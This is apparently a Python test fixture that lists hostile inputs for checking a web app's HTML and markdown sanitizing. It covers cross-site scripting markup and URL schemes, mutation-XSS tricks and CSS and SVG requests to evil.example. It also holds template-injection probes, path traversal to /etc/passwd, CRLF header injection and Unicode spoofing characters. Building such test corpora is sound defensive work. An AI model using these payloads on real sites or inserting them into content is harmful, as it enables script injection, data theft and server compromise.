"""What hostile peers write: each is tried in every field that peers fill. Whatever runs calls `alert`, asks
`evil.example`, or is told of by the content security policy.

Kinds are multiplied where a filter would meet the same trick in another dress: elements by handlers, links by schemes.
"""

from __future__ import annotations

from collections.abc import Sequence

RUN = "alert(1)"
AWAY = "//evil.example/x"

_HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter"),
    *("onbegin", "onscroll", "oncontentvisibilityautostatechange", "onbeforetoggle"),
)
_ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "iframe", "a href=#"),
    *(
        "object data=x",
        "custom-element tabindex=1 autofocus",
    ),
)
MARKUP: Sequence[str] = (
    *(f"<{element} {handler}={RUN}>" for element in _ELEMENTS for handler in _HANDLERS),
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script >",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} `",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x00={RUN}>",
    f"<img\nsrc=x\nonerror\n=\n{RUN}\n>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<form action={AWAY}><button>Sign in</button></form>",
    "<form action=/mail/sign-out method=post><button>Sign in</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<embed src={AWAY}>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    f"<img srcset='{AWAY} 1x'>",
    f"<picture><source srcset={AWAY}><img></picture>",
    f"<audio autoplay src={AWAY}></audio>",
    f"<input type=image src={AWAY}>",
    f"<table background={AWAY}><td>x",
    f"<a href=x ping={AWAY}>x</a>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script>",
    "<input name=csrf value=x><input name=token>",
    "<form id=main><input name=querySelector>",
    "<a id=trustedTypes name=createPolicy>",
    f"<div hx-get={AWAY} hx-trigger=load data-row data-reader data-article>x</div>",
    f"<div x-data x-init={RUN}>x</div>",
)
_SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *("javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&#58;alert(1)", "javascript%3Aalert(1)"),
    *("javascript://evil.example/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>"),
    *("blob:https://evil.example/x", "file:///etc/passwd", "view-source:x", "//evil.example/x", "/\\evil.example/x"),
    *(
        "/mail/sign-out",
        "http:evil.example",
        "https:\\\\evil.example",
        "feed:javascript:alert(1)",
        "mailto:x?body=<img src=x>",
    ),
    *(
        "intent://x#Intent;scheme=javascript;end",
        "http://[::1",
        "https://a@evil.example:80:80/x",
        "ws://evil.example/x",
    ),
)
URLS: Sequence[str] = tuple(form.format(url) for url in _SCHEMES for form in ("[words]({})", "<{}>", "![words](<{}>)"))
MARKDOWN: Sequence[str] = (
    f'![a](x "onerror={RUN}")',
    f"![a](https:{AWAY}.png)",
    f"[a](https://x.example \"t' onmouseover='{RUN}\")",
    f"[<img src=x onerror={RUN}>](https://x.example)",
    f"[![a](https:{AWAY}.png)](javascript:{RUN})",
    f"[a][1]\n\n[1]: javascript:{RUN}",
    f"[a][1]\n\n[1]: <data:text/html,<script>{RUN}</script>>",
    f'<https://x.example/"onmouseover="{RUN}>',
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"~~~js onload={RUN}\nx\n~~~",
    f"`</code><script>{RUN}</script>`",
    f"    </pre><script>{RUN}</script>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"- [x] <input onfocus={RUN} autofocus>",
    f"# </h1><script>{RUN}</script>",
    f"> <svg/onload={RUN}>",
    f"*<b onclick={RUN}>*",
    f"a\\<script>{RUN}\\</script>",
    "> " * 200 + "deep",
    "[" * 200 + "x" + "](y)" * 200,
    "**" * 300,
    f"<!-- -- --><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php echo '<script>{RUN}</script>' ?>",
    "&copy; &NotANewEntity; &#0; &#x110000; &#xD800;",
)
MUTATION: Sequence[str] = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f"<svg><desc><noscript><img src=x onerror={RUN}></noscript></desc></svg>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f'<p id="</p><img src=x onerror={RUN}>">x',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<table><tr><td><a title="</td></tr></table><img src=x onerror={RUN}>">x',
    f'<svg><title><a title="</title><img src=x onerror={RUN}>">',
    f"<math href=javascript:{RUN}>x</math>",
    f'<style><img title="</style><img src=x onerror={RUN}>">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
)
STYLES: Sequence[str] = (
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<style>@import '{AWAY}';</style>",
    f'<div style="background:url({AWAY})">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999">Session over: sign in again</div>',
    f'<div style="width:expression({RUN})">x</div>',
    f'<div style="behavior:url({AWAY})">x</div>',
    '<span class="notice bad skip side" id=main>x</span>',
    f"<link rel=icon href={AWAY}>",
    f"<font face=\"x' style='background:url({AWAY})\">x</font>",
    f"}}</style><script>{RUN}</script>",
)
DRAWINGS: Sequence[str] = (
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={AWAY}></script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x></svg>",
    f"<svg><image href={AWAY}></image></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style>@import '{AWAY}'</style></svg>",
    f"<svg><filter><feImage href={AWAY} /></filter></svg>",
    f"<svg><handler type=text/javascript ev:event=load>{RUN}</handler></svg>",
)
TURNED: Sequence[str] = (
    *(f"safe{mark}gpj.exe" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"),
    *(f"a{mark}b" for mark in "\u200b\u2060\ufeff\u00ad\u180e\u3164\u2800"),
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "bell\x07back\x08space",
    "line\u2028break\u2029paragraph",
    "Z\u0351\u0343\u0344a\u0351\u0343lgo",
    "\U000e0041\U000e0042 tags",
    "\u0440\u0430\u0443pal.example",
    "wide" + "\u3000" * 50 + "space",
    "long" + "x" * 400,
)
TEMPLATES: Sequence[str] = (
    "{{7*7}}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "{{ asset('tokens.css') | safe }}",
    "%(secret)s {0.__class__}",
    "{{ frame.secret }}",
)
PATHS: Sequence[str] = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/mail/sign-out",
    "//evil.example",
    "%2e%2e%2f%2e%2e%2fetc",
    "a/b?c=d#e",
    "a%00b",
    "a;b=c",
    "con.png",
    f'x" onerror={RUN} y=".png',
    f"<img src=x onerror={RUN}>.png",
    "?csrf=x&token=y",
    "#/../..",
    " . ",
    "a\r\nset-cookie: b=c",
)
VECTORS: Sequence[str] = tuple(
    dict.fromkeys((*MARKUP, *URLS, *MARKDOWN, *MUTATION, *STYLES, *DRAWINGS, *TURNED, *TEMPLATES, *PATHS))
)
"""Each once."""
